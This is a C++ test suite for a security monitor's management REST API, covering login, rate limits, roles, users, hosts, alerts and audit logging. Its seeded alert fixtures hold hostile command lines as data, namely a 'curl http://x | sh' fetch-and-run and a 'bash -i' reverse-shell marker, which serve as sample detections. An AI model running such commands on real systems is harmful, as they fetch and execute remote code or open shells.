// The manager's REST API driven through ApiRouter::dispatch (no sockets) over each backend (an
// SQLite file in a temp dir; a PostgreSQL schema of its own): login, rate limit, sessions, roles,
// users, hosts, alerts, audit, OpenAPI.
#include <gtest/gtest.h>
#include <stdlib.h>

#include <atomic>
#include <filesystem>
#include <memory>
#include <set>
#include <string>
#include <thread>

#include "server/manager/api/manager_api.h"
#include "server/manager/api/test/api_fixture.h"
#include "server/manager/store/hub_alert.h"
#include "server/manager/store/test/pg_test_server.h"

namespace vigil::manager::api {
namespace {

using nlohmann::json;

using testing::ApiFixture;
using testing::kAdminPassword;
using testing::kT0;
using testing::Reply;

class ManagerApiTest : public ApiFixture {
protected:
    void SetUp() override {
        ApiFixture::SetUp();
        if (HasFatalFailure()) return;
        makeApi();
    }

    Reply get(const std::string& target, const std::string& token) {
        return call("GET", target, token);
    }
    Reply login(const std::string& user, const std::string& password,
                const std::string& remote = "127.0.0.1:40000") {
        return call("POST", "/api/v1/auth/login", "",
                    json{{"username", user}, {"password", password}}, remote);
    }
    std::string tokenOf(const std::string& user, const std::string& password) {
        auto r = login(user, password);
        EXPECT_EQ(r.status, 200) << r.body.dump();
        return r.data().value("token", std::string());
    }
    // Alert `i` of rule `rule` on agent-<host>, from the hub's JSON (with a process tree).
    Alert hubAlert(int i, const std::string& rule, int host, const std::string& severity,
                   int64_t time_s, const std::string& argv) {
        json j = {{"alert_id", "alert-" + std::to_string(i)},
                  {"rule_id", rule},
                  {"rule_name", "Rule " + rule},
                  {"severity", severity},
                  {"mitre", {"T1059.004"}},
                  {"description", "a shell with its stdio on a socket"},
                  {"suggestion", "kill it"},
                  {"data_type", 59},
                  {"agent_id", "agent-" + std::to_string(host)},
                  {"hostname", "host-" + std::to_string(host)},
                  {"time", time_s},
                  {"hub_time", time_s * 1000 + 5},
                  {"fields", {{"argv", argv}, {"exe", "/bin/bash"}}},
                  {"process_tree",
                   {{{"pid", "201"}, {"exe", "/bin/bash"}, {"argv", argv}},
                    {{"pid", "200"}, {"exe", "/usr/sbin/sshd"}, {"argv", "sshd: root"}}}}};
        auto a = alertFromHubJson(j.dump());
        EXPECT_TRUE(a.ok()) << a.message();
        return a.ok() ? *a : Alert{};
    }
    Host host(int n, const std::string& hostname, int64_t heartbeat_ms) {
        Host h;
        h.agent_id = "agent-" + std::to_string(n);
        h.hostname = hostname;
        h.version = "1.0.0";
        h.platform = "debian 12";
        h.intranet_ips = {"10.0.0." + std::to_string(n)};
        h.last_heartbeat_ms = heartbeat_ms;
        h.plugins_json = R"([{"name":"driver","status":"running"}])";
        return h;
    }
    void seed() {
        IngestBatch b;
        b.hosts = {host(1, "web-1", kT0), host(2, "web-2", kT0 - 3600 * 1000),
                   host(3, "db-1", kT0 - 60 * 1000), host(4, "web-3", kT0 - 7200 * 1000),
                   host(5, "cache-1", kT0)};
        const int64_t t = kT0 / 1000;
        const char* sev[] = {"low", "medium", "high", "critical"};
        for (int i = 0; i < 20; ++i) {
            b.alerts.push_back(hubAlert(i, i % 2 ? "reverse_shell" : "curl_pipe", i % 5 + 1,
                                        sev[i % 4], t - 600 + i * 10,
                                        i % 2 ? "bash -i" : "curl http://x | sh"));
        }
        auto r = store_->ingest(b);
        ASSERT_TRUE(r.ok()) << r.message();
        ASSERT_EQ(r->alerts_inserted, 20u);
    }
    // Every item of a list, following next_cursor with pages of `limit`.
    std::vector<json> all(const std::string& target, const std::string& token, int limit) {
        std::vector<json> items;
        std::string cursor;
        for (int pages = 0; pages < 100; ++pages) {
            std::string sep = target.find('?') == std::string::npos ? "?" : "&";
            auto r = get(target + sep + "limit=" + std::to_string(limit) +
                             (cursor.empty() ? "" : "&cursor=" + server::urlEncode(cursor)),
                         token);
            EXPECT_EQ(r.status, 200) << r.body.dump();
            if (r.status != 200) break;
            const json data = r.data();
            for (const auto& item : data["items"]) items.push_back(item);
            cursor = data.value("next_cursor", std::string());
            if (cursor.empty()) break;
        }
        return items;
    }
};

TEST_P(ManagerApiTest, LoginMeLogout) {
    auto r = login("admin", kAdminPassword);
    ASSERT_EQ(r.status, 200) << r.body.dump();
    std::string token = r.data()["token"];
    EXPECT_EQ(token.size(), 43u);
    EXPECT_EQ(r.data()["expires_at_ms"], kT0 + 12 * 3600 * 1000);
    EXPECT_EQ(r.data()["user"]["role"], "admin");
    auto me = get("/api/v1/auth/me", token);
    ASSERT_EQ(me.status, 200);
    EXPECT_EQ(me.data()["username"], "admin");
    // The store holds the token's hash, never the token.
    auto s = store_->getSession(auth::tokenHash(token));
    ASSERT_TRUE(s.ok() && s->has_value());
    EXPECT_EQ(call("POST", "/api/v1/auth/logout", token).status, 200);
    EXPECT_EQ(get("/api/v1/auth/me", token).status, 401);
    EXPECT_EQ(audit("auth.login").size(), 1u);
    EXPECT_EQ(audit("auth.logout").size(), 1u);
}

TEST_P(ManagerApiTest, BadPasswordUnknownUserAndMalformedBody) {
    auto r = login("admin", "wrong");
    EXPECT_EQ(r.status, 401);
    EXPECT_EQ(r.body["code"], 401);
    EXPECT_EQ(r.msg(), "wrong username or password");
    EXPECT_EQ(login("nobody", "whatever").msg(), "wrong username or password");
    auto bad = call("POST", "/api/v1/auth/login", "", {{"username", "admin"}});
    EXPECT_EQ(bad.status, 400);
    EXPECT_NE(bad.msg().find("password"), std::string::npos) << bad.msg();
    EXPECT_EQ(metrics_.counterValue("vigil_manager_logins_total", {{"result", "bad_credentials"}}),
              2u);
}

TEST_P(ManagerApiTest, RateLimitedPerUsernameAndPerAddress) {
    for (int i = 0; i < 5; ++i) EXPECT_EQ(login("admin", "wrong", "10.0.0.9:1").status, 401);
    // The user is blocked from anywhere, even with the right password.
    auto r = login("admin", kAdminPassword, "10.0.0.8:1");
    ASSERT_EQ(r.status, 429) << r.body.dump();
    EXPECT_EQ(r.data()["retry_after_s"], 300);
    EXPECT_EQ(r.headers,
              (std::vector<std::pair<std::string, std::string>>{{"Retry-After", "300"}}));
    EXPECT_EQ(metrics_.counterValue("vigil_manager_logins_total", {{"result", "rate_limited"}}),
              1u);
    // The address is blocked for every user.
    EXPECT_EQ(login("someone", "x", "10.0.0.9:2").status, 429);
    setNow(kT0 + 5 * 60 * 1000 + 1);
    EXPECT_EQ(login("admin", kAdminPassword, "10.0.0.8:1").status, 200);

    // Another address spraying other usernames: blocked after 5, other addresses are not.
    for (int i = 0; i < 5; ++i) {
        EXPECT_EQ(login("user" + std::to_string(i), "x", "10.0.0.7:1").status, 401);
    }
    EXPECT_EQ(login("admin", kAdminPassword, "10.0.0.7:1").status, 429);
    EXPECT_EQ(login("admin", kAdminPassword, "10.0.0.6:1").status, 200);
}

TEST_P(ManagerApiTest, ConcurrentTriesCannotPassTheLimit) {
    std::vector<std::thread> threads;
    std::atomic<int> refused{0}, limited{0};
    for (int i = 0; i < 16; ++i) {
        threads.emplace_back([&, i] {
            int s =
                login("admin", "wrong" + std::to_string(i), "10.0.1." + std::to_string(i)).status;
            (s == 401 ? refused : limited)++;
        });
    }
    for (auto& t : threads) t.join();
    EXPECT_EQ(refused.load(), 5);
    EXPECT_EQ(limited.load(), 11);
}

TEST_P(ManagerApiTest, EveryRouteButOpenOnesNeedsAToken) {
    size_t checked = 0;
    for (const auto& route : api_->routes()) {
        std::string path = route.pattern;
        for (auto p = path.find(':'); p != std::string::npos; p = path.find(':')) {
            auto end = path.find('/', p);
            path.replace(p, (end == std::string::npos ? path.size() : end) - p, "x");
        }
        auto r = call(route.method, path, "");
        if (route.open) {
            EXPECT_NE(r.status, 401) << route.method << " " << path;
            continue;
        }
        EXPECT_EQ(r.status, 401) << route.method << " " << path;
        EXPECT_EQ(call(route.method, path, "not-a-token").status, 401) << path;
        ++checked;
    }
    EXPECT_GE(checked, 13u);
    // Another scheme is not a bearer token.
    server::HttpRequest basic;
    basic.method = "GET";
    basic.target = "/api/v1/hosts";
    basic.headers = {{"Authorization", "Basic YWRtaW46eA=="}};
    EXPECT_EQ(router_->dispatch(basic).status, 401);
    EXPECT_EQ(get("/healthz", "").status, 200);
    EXPECT_EQ(get("/metrics", "").status, 200);
}

TEST_P(ManagerApiTest, RolesDecide) {
    seed();
    std::string ro = userToken("reader", "read_only");
    std::string op = userToken("oper", "operator");
    EXPECT_EQ(get("/api/v1/alerts", ro).status, 200);
    EXPECT_EQ(get("/api/v1/hosts", ro).status, 200);
    EXPECT_EQ(get("/api/v1/audit", ro).status, 200);
    auto denied = call("PATCH", "/api/v1/alerts/alert-1", ro, {{"status", "confirmed"}});
    EXPECT_EQ(denied.status, 403);
    EXPECT_NE(denied.msg().find("read_only"), std::string::npos) << denied.msg();
    EXPECT_EQ(call("DELETE", "/api/v1/hosts/offline", ro).status, 403);
    EXPECT_EQ(get("/api/v1/users", ro).status, 403);
    EXPECT_EQ(call("PATCH", "/api/v1/alerts/alert-1", op, {{"status", "confirmed"}}).status, 200);
    EXPECT_EQ(get("/api/v1/users", op).status, 403);
    EXPECT_EQ(call("POST", "/api/v1/users", op,
                   {{"username", "x"}, {"password", "12345678"}, {"role", "admin"}})
                  .status,
              403);
    EXPECT_EQ(get("/api/v1/users", adminToken()).status, 200);
    // A role change applies to the open sessions at once.
    EXPECT_EQ(call("PATCH", "/api/v1/users/reader", adminToken(), {{"role", "operator"}}).status,
              200);
    EXPECT_EQ(call("PATCH", "/api/v1/alerts/alert-1", ro, {{"status", "resolved"}}).status, 200);
}

TEST_P(ManagerApiTest, SessionsExpire) {
    std::string token = adminToken();
    setNow(kT0 + 12 * 3600 * 1000 - 1);
    EXPECT_EQ(get("/api/v1/auth/me", token).status, 200);
    setNow(kT0 + 12 * 3600 * 1000 + 1);
    auto r = get("/api/v1/auth/me", token);
    EXPECT_EQ(r.status, 401);
    EXPECT_NE(r.msg().find("expired"), std::string::npos);
}

TEST_P(ManagerApiTest, UserCrudByAdmin) {
    std::string admin = adminToken();
    auto c = call("POST", "/api/v1/users", admin,
                  {{"username", "alice"}, {"password", "alice-pass"}, {"role", "operator"}});
    ASSERT_EQ(c.status, 201) << c.body.dump();
    EXPECT_EQ(c.data()["role"], "operator");
    EXPECT_FALSE(c.data().contains("password_hash"));
    EXPECT_EQ(
        call("POST", "/api/v1/users", admin, {{"username", "alice"}, {"password", "12345678"}})
            .status,
        409);
    EXPECT_EQ(
        call("POST", "/api/v1/users", admin, {{"username", "bob"}, {"password", "short"}}).status,
        400);
    EXPECT_EQ(
        call("POST", "/api/v1/users", admin, {{"username", "bad name"}, {"password", "12345678"}})
            .status,
        400);
    auto bad_role = call("POST", "/api/v1/users", admin,
                         {{"username", "bob"}, {"password", "12345678"}, {"role", "root"}});
    EXPECT_EQ(bad_role.status, 400);
    EXPECT_NE(bad_role.msg().find("role"), std::string::npos);
    auto list = get("/api/v1/users", admin);
    ASSERT_EQ(list.status, 200);
    EXPECT_EQ(list.data()["items"].size(), 2u);

    // A new password ends alice's sessions; the new one works, the old one not.
    std::string alice = tokenOf("alice", "alice-pass");
    EXPECT_EQ(call("PATCH", "/api/v1/users/alice", admin, {{"password", "alice-new-pass"}}).status,
              200);
    EXPECT_EQ(get("/api/v1/auth/me", alice).status, 401);
    EXPECT_EQ(login("alice", "alice-pass").status, 401);
    alice = tokenOf("alice", "alice-new-pass");
    // Disabled: sessions end and logins fail.
    EXPECT_EQ(call("PATCH", "/api/v1/users/alice", admin, {{"disabled", true}}).status, 200);
    EXPECT_EQ(get("/api/v1/auth/me", alice).status, 401);
    EXPECT_EQ(login("alice", "alice-new-pass").status, 401);
    EXPECT_EQ(call("PATCH", "/api/v1/users/alice", admin, json::object()).status, 400);
    EXPECT_EQ(call("PATCH", "/api/v1/users/nobody", admin, {{"role", "admin"}}).status, 404);

    // The last enabled admin stays.
    EXPECT_EQ(call("PATCH", "/api/v1/users/admin", admin, {{"role", "operator"}}).status, 409);
    EXPECT_EQ(call("DELETE", "/api/v1/users/admin", admin).status, 409);
    EXPECT_EQ(call("DELETE", "/api/v1/users/alice", admin).status, 200);
    EXPECT_EQ(call("DELETE", "/api/v1/users/alice", admin).status, 404);

    EXPECT_EQ(audit("user.create").size(), 2u);  // the bootstrap admin and alice
    auto updates = audit("user.update");
    ASSERT_EQ(updates.size(), 2u);
    EXPECT_EQ(updates[0].username, "admin");
    EXPECT_EQ(updates[0].target, "alice");
    EXPECT_NE(updates[0].detail_json.find("\"disabled\":true"), std::string::npos);
    EXPECT_NE(updates[1].detail_json.find("password_changed"), std::string::npos);
    EXPECT_EQ(updates[1].detail_json.find("alice-new-pass"), std::string::npos);
    EXPECT_EQ(audit("user.delete").size(), 1u);
}

// Every list filters, sorts and pages: users, host groups, tasks and the audit log here (hosts
// and alerts below, rules in rules_routes_test).
TEST_P(ManagerApiTest, SmallListsFilterSortPaginate) {
    const std::string admin = adminToken();
    for (const char* name : {"carol", "alice", "bob"}) {
        ASSERT_EQ(call("POST", "/api/v1/users", admin,
                       {{"username", name}, {"password", "12345678"}, {"role", "operator"}})
                      .status,
                  201);
    }
    ASSERT_EQ(call("PATCH", "/api/v1/users/bob", admin, {{"disabled", true}}).status, 200);
    auto names = [&](const std::string& target) {
        auto r = get(target, admin);
        EXPECT_EQ(r.status, 200) << target << ": " << r.body.dump();
        std::vector<std::string> out;
        const json data = r.data();
        for (const auto& item : data["items"]) {
            out.push_back(item.contains("username")  ? item["username"].get<std::string>()
                          : item.contains("task_id") ? item["task_id"].get<std::string>()
                                                     : item["name"].get<std::string>());
        }
        return out;
    };
    using Names = std::vector<std::string>;
    EXPECT_EQ(names("/api/v1/users"), (Names{"admin", "alice", "bob", "carol"}));
    EXPECT_EQ(names("/api/v1/users?sort=-username"), (Names{"carol", "bob", "alice", "admin"}));
    EXPECT_EQ(names("/api/v1/users?role=operator&disabled=false"), (Names{"alice", "carol"}));
    EXPECT_EQ(names("/api/v1/users?q=AL"), (Names{"alice"}));
    auto first = get("/api/v1/users?limit=3", admin);
    EXPECT_EQ(first.data()["total"], 4);
    ASSERT_EQ(first.data()["items"].size(), 3u);
    const std::string next = first.data()["next_cursor"];
    EXPECT_EQ(names("/api/v1/users?limit=3&cursor=" + next), (Names{"carol"}));
    EXPECT_EQ(get("/api/v1/users?sort=password", admin).status, 400);
    EXPECT_EQ(get("/api/v1/users?role=root", admin).status, 400);
    EXPECT_EQ(get("/api/v1/users?disabled=maybe", admin).status, 400);
    EXPECT_EQ(get("/api/v1/users?cursor=x", admin).status, 400);

    // Host groups ("default" listed even when not stored).
    for (const char* g : {"web", "db"}) {
        HostGroup group;
        group.name = g;
        ASSERT_TRUE(store_->putHostGroup(group).ok());
    }
    EXPECT_EQ(names("/api/v1/groups"), (Names{"default", "db", "web"}));
    EXPECT_EQ(names("/api/v1/groups?sort=-name"), (Names{"web", "default", "db"}));
    EXPECT_EQ(names("/api/v1/groups?q=W&limit=1"), (Names{"web"}));
    EXPECT_EQ(get("/api/v1/groups?sort=size", admin).status, 400);

    // Tasks: by host, creator, plugin, data_type, time; newest or oldest first.
    for (int i = 0; i < 3; ++i) {
        Task t;
        t.task_id = "task-" + std::to_string(i);
        t.agent_ids = {i == 2 ? "agent-2" : "agent-1"};
        t.data_type = 9101 + i % 2;
        t.object_name = "example";
        t.created_by = i == 0 ? "alice" : "carol";
        t.created_at_ms = kT0 + i * 1000;
        ASSERT_TRUE(store_->createTask(t).ok());
    }
    EXPECT_EQ(names("/api/v1/tasks"), (Names{"task-2", "task-1", "task-0"}));
    EXPECT_EQ(names("/api/v1/tasks?sort=oldest&limit=2"), (Names{"task-0", "task-1"}));
    EXPECT_EQ(names("/api/v1/tasks?agent_id=agent-1"), (Names{"task-1", "task-0"}));
    EXPECT_EQ(names("/api/v1/tasks?created_by=carol&data_type=9101"), (Names{"task-2"}));
    EXPECT_EQ(names("/api/v1/tasks?name=other"), Names{});
    EXPECT_EQ(names("/api/v1/tasks?from=" + std::to_string(kT0 + 1)), (Names{"task-2", "task-1"}));
    EXPECT_EQ(get("/api/v1/tasks?data_type=x", admin).status, 400);
    EXPECT_EQ(get("/api/v1/tasks?sort=size", admin).status, 400);

    // The audit log: oldest first, by target.
    auto audit_list = get("/api/v1/audit?sort=oldest&limit=1", admin);
    ASSERT_EQ(audit_list.status, 200);
    EXPECT_EQ(audit_list.data()["items"][0]["action"], "user.create");
    EXPECT_EQ(audit_list.data()["items"][0]["target"], "admin");  // the bootstrap admin
    auto bob = get("/api/v1/audit?target=bob", admin);
    ASSERT_EQ(bob.status, 200);
    EXPECT_EQ(bob.data()["items"].size(), 2u);  // created, disabled
    EXPECT_EQ(get("/api/v1/audit?sort=up", admin).status, 400);
}

TEST_P(ManagerApiTest, HostsListFilterSortPaginate) {
    seed();
    std::string t = adminToken();
    auto names = [](const std::vector<json>& items) {
        std::vector<std::string> out;
        for (const auto& i : items) out.push_back(i["hostname"]);
        return out;
    };
    EXPECT_EQ(names(all("/api/v1/hosts", t, 2)),
              (std::vector<std::string>{"cache-1", "db-1", "web-1", "web-2", "web-3"}));
    EXPECT_EQ(names(all("/api/v1/hosts?state=online", t, 2)),
              (std::vector<std::string>{"cache-1", "db-1", "web-1"}));
    EXPECT_EQ(names(all("/api/v1/hosts?state=offline", t, 1)),
              (std::vector<std::string>{"web-2", "web-3"}));
    EXPECT_EQ(names(all("/api/v1/hosts?prefix=web-&sort=last_heartbeat", t, 2)),
              (std::vector<std::string>{"web-1", "web-2", "web-3"}));
    auto first = get("/api/v1/hosts?limit=1", t);
    EXPECT_EQ(first.data()["counts"]["online"], 3);
    EXPECT_EQ(first.data()["counts"]["offline"], 2);
    EXPECT_EQ(first.data()["items"][0]["plugins"][0]["name"], "driver");

    auto bad = get("/api/v1/hosts?state=sleeping", t);
    EXPECT_EQ(bad.status, 400);
    EXPECT_NE(bad.msg().find("state"), std::string::npos);
    EXPECT_NE(get("/api/v1/hosts?limit=0", t).msg().find("limit"), std::string::npos);
    EXPECT_NE(get("/api/v1/hosts?sort=size", t).msg().find("sort"), std::string::npos);
    EXPECT_NE(get("/api/v1/hosts?cursor=zzz", t).msg().find("cursor"), std::string::npos);
    EXPECT_EQ(get("/api/v1/hosts?cursor=zzz", t).status, 400);

    auto one = get("/api/v1/hosts/agent-3", t);
    ASSERT_EQ(one.status, 200);
    EXPECT_EQ(one.data()["hostname"], "db-1");
    EXPECT_EQ(one.data()["recent_alerts"].size(), 4u);
    EXPECT_EQ(get("/api/v1/hosts/agent-99", t).status, 404);

    // Deleting offline hosts keeps the online one even when listed.
    auto del = call("DELETE", "/api/v1/hosts/offline", t, {{"agent_ids", {"agent-2", "agent-1"}}});
    ASSERT_EQ(del.status, 200) << del.body.dump();
    EXPECT_EQ(del.data()["deleted"], json({"agent-2"}));
    del = call("DELETE", "/api/v1/hosts/offline", t);
    EXPECT_EQ(del.data()["deleted"], json({"agent-4"}));
    EXPECT_EQ(names(all("/api/v1/hosts", t, 10)),
              (std::vector<std::string>{"cache-1", "db-1", "web-1"}));
    EXPECT_EQ(audit("host.delete_offline").size(), 2u);
    EXPECT_EQ(call("DELETE", "/api/v1/hosts/offline", t, {{"agent_ids", "x"}}).status, 400);
}

TEST_P(ManagerApiTest, AlertsListFilterPaginateDetail) {
    seed();
    std::string t = adminToken();
    auto ids = [](const std::vector<json>& items) {
        std::vector<std::string> out;
        for (const auto& i : items) out.push_back(i["alert_id"]);
        return out;
    };
    auto every = ids(all("/api/v1/alerts", t, 3));
    ASSERT_EQ(every.size(), 20u);
    EXPECT_EQ(every.front(), "alert-19");  // newest first
    EXPECT_EQ(std::set<std::string>(every.begin(), every.end()).size(), 20u);
    EXPECT_EQ(all("/api/v1/alerts?severity=critical", t, 2).size(), 5u);
    EXPECT_EQ(all("/api/v1/alerts?severity=high,critical", t, 50).size(), 10u);
    EXPECT_EQ(all("/api/v1/alerts?rule_id=reverse_shell", t, 4).size(), 10u);
    EXPECT_EQ(all("/api/v1/alerts?agent_id=agent-2", t, 4).size(), 4u);
    EXPECT_EQ(all("/api/v1/alerts?q=CURL", t, 4).size(), 10u);
    EXPECT_EQ(all("/api/v1/alerts?status=new", t, 50).size(), 20u);
    const int64_t from = kT0 - 600 * 1000 + 100 * 1000;  // alerts 10..19
    EXPECT_EQ(all("/api/v1/alerts?from=" + std::to_string(from), t, 4).size(), 10u);
    EXPECT_EQ(all("/api/v1/alerts?from=" + std::to_string(from) +
                      "&to=" + std::to_string(from + 50 * 1000),
                  t, 4)
                  .size(),
              5u);
    auto by_sev = all("/api/v1/alerts?sort=severity", t, 6);
    ASSERT_EQ(by_sev.size(), 20u);
    EXPECT_EQ(by_sev.front()["severity"], "critical");
    EXPECT_EQ(by_sev.back()["severity"], "low");

    auto one = get("/api/v1/alerts/alert-3", t);
    ASSERT_EQ(one.status, 200);
    EXPECT_EQ(one.data()["process_tree"].size(), 2u);
    EXPECT_EQ(one.data()["process_tree"][1]["exe"], "/usr/sbin/sshd");
    EXPECT_EQ(one.data()["alert"]["fields"]["exe"], "/bin/bash");
    EXPECT_EQ(one.data()["suggestion"], "kill it");
    EXPECT_EQ(get("/api/v1/alerts/alert-99", t).status, 404);

    auto bad = [&](const std::string& query, const std::string& param) {
        auto r = get("/api/v1/alerts?" + query, t);
        EXPECT_EQ(r.status, 400) << query;
        EXPECT_NE(r.msg().find(param), std::string::npos) << query << ": " << r.msg();
    };
    bad("severity=bogus", "severity");
    bad("status=open", "status");
    bad("from=yesterday", "from");
    bad("to=-5", "to");
    bad("from=100&to=50", "to");
    bad("limit=5000", "limit");
    bad("sort=name", "sort");
    bad("cursor=AAAA", "cursor");
    bad("q=" + std::string(300, 'a'), "q");
    // A cursor of the time sort is refused by the severity sort.
    auto page = get("/api/v1/alerts?limit=2", t);
    bad("sort=severity&cursor=" + server::urlEncode(page.data()["next_cursor"].get<std::string>()),
        "cursor");
}

TEST_P(ManagerApiTest, AlertStatusChangeIsAudited) {
    seed();
    std::string op = userToken("oper", "operator");
    auto r = call("PATCH", "/api/v1/alerts/alert-7", op,
                  {{"status", "false_positive"}, {"comment", "admin's cron job"}});
    ASSERT_EQ(r.status, 200) << r.body.dump();
    EXPECT_EQ(r.data()["status"], "false_positive");
    EXPECT_EQ(r.data()["updated_by"], "oper");
    EXPECT_EQ(r.data()["status_comment"], "admin's cron job");
    auto entries = audit("alert.status");
    ASSERT_EQ(entries.size(), 1u);
    EXPECT_EQ(entries[0].username, "oper");
    EXPECT_EQ(entries[0].target, "alert-7");
    auto detail = json::parse(entries[0].detail_json);
    EXPECT_EQ(detail["from"], "new");
    EXPECT_EQ(detail["to"], "false_positive");
    EXPECT_EQ(all("/api/v1/alerts?status=false_positive", op, 10).size(), 1u);
    // Through the API too.
    auto log = get("/api/v1/audit?action=alert.status", op);
    ASSERT_EQ(log.status, 200);
    EXPECT_EQ(log.data()["items"][0]["detail"]["comment"], "admin's cron job");

    auto bad = call("PATCH", "/api/v1/alerts/alert-7", op, {{"status", "closed"}});
    EXPECT_EQ(bad.status, 400);
    EXPECT_NE(bad.msg().find("status"), std::string::npos);
    EXPECT_EQ(call("PATCH", "/api/v1/alerts/nope", op, {{"status", "resolved"}}).status, 404);
    EXPECT_EQ(audit("alert.status").size(), 1u);
}

TEST_P(ManagerApiTest, AlertStats) {
    seed();
    std::string t = adminToken();
    auto r = get("/api/v1/alerts/stats", t);
    ASSERT_EQ(r.status, 200) << r.body.dump();
    EXPECT_EQ(r.data()["by_severity"]["critical"], 5);
    EXPECT_EQ(r.data()["by_status"]["new"]["low"], 5);
    EXPECT_EQ(r.data()["top_rules"].size(), 2u);
    EXPECT_EQ(r.data()["buckets"].size(), 24u);
    EXPECT_EQ(get("/api/v1/alerts/stats?bucket=1000", t).status, 400);
    EXPECT_EQ(get("/api/v1/alerts/stats?top=0", t).status, 400);
}

TEST_P(ManagerApiTest, OpenApiCoversEveryRoute) {
    auto r = get("/api/v1/openapi.json", "");
    ASSERT_EQ(r.status, 200);
    ASSERT_TRUE(r.body.is_object());
    EXPECT_EQ(r.body["openapi"], "3.0.3");
    std::set<std::string> documented;
    for (auto& [path, ops] : r.body["paths"].items()) {
        for (auto& [method, op] : ops.items()) {
            documented.insert(method + " " + path);
            EXPECT_TRUE(op.contains("summary")) << path;
        }
    }
    std::set<std::string> registered;
    for (const auto& route : api_->routes()) {
        std::string method = route.method;
        for (auto& c : method) c = static_cast<char>(std::tolower(c));
        registered.insert(method + " " + openApiPath(route.pattern));
    }
    EXPECT_EQ(registered, documented);
    EXPECT_EQ(openApiPath("/api/v1/users/:name"), "/api/v1/users/{name}");
}

TEST_P(ManagerApiTest, BootstrapAdmin) {
    // The fixture's store already has the admin: nothing happens.
    auto again = auth::bootstrapAdmin(*store_, "", auth::HashCost::kMinimum, kT0);
    ASSERT_TRUE(again.ok());
    EXPECT_EQ(*again, "");
    EXPECT_EQ(login("admin", kAdminPassword).status, 200);

    // An empty store: a random password, returned once.
    StoreOptions so;
    so.now_ms = [] { return kT0; };
    auto fresh = openStore("sqlite://" + dir_ + "/fresh.db", so);
    ASSERT_TRUE(fresh.ok());
    auto pw = auth::bootstrapAdmin(**fresh, "", auth::HashCost::kMinimum, kT0);
    ASSERT_TRUE(pw.ok()) << pw.message();
    EXPECT_EQ(pw->size(), 24u);
    auto admin = (*fresh)->getUser("admin");
    ASSERT_TRUE(admin.ok() && admin->has_value());
    EXPECT_EQ((*admin)->role, Role::kAdmin);
    EXPECT_TRUE(auth::verifyPassword(*pw, (*admin)->password_hash));
    EXPECT_EQ(auth::bootstrapAdmin(**fresh, "", auth::HashCost::kMinimum, kT0).valueOr("x"), "");
}

INSTANTIATE_TEST_SUITE_P(Backends, ManagerApiTest, ::testing::Values("sqlite", "postgresql"),
                         [](const auto& info) { return info.param; });

}  // namespace
}  // namespace vigil::manager::api
